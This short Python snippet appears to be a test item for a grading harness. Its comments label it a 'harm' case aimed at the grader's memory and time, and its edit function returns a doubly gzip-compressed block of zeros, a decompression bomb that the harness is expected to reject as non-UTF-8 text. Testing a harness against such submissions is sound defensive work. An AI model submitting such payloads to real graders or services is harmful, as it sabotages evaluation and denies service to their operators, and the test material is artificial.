# kind = "harm"
# goal = "the grader's memory and time"
# trick = "a notebook that is a gzip file of a gigabyte of zeros"
# mark = 0
# refused = "is not UTF-8 text"
# %% edit
import gzip
def edit(notebook):
    return gzip.compress(gzip.compress(bytes(1 << 26)))
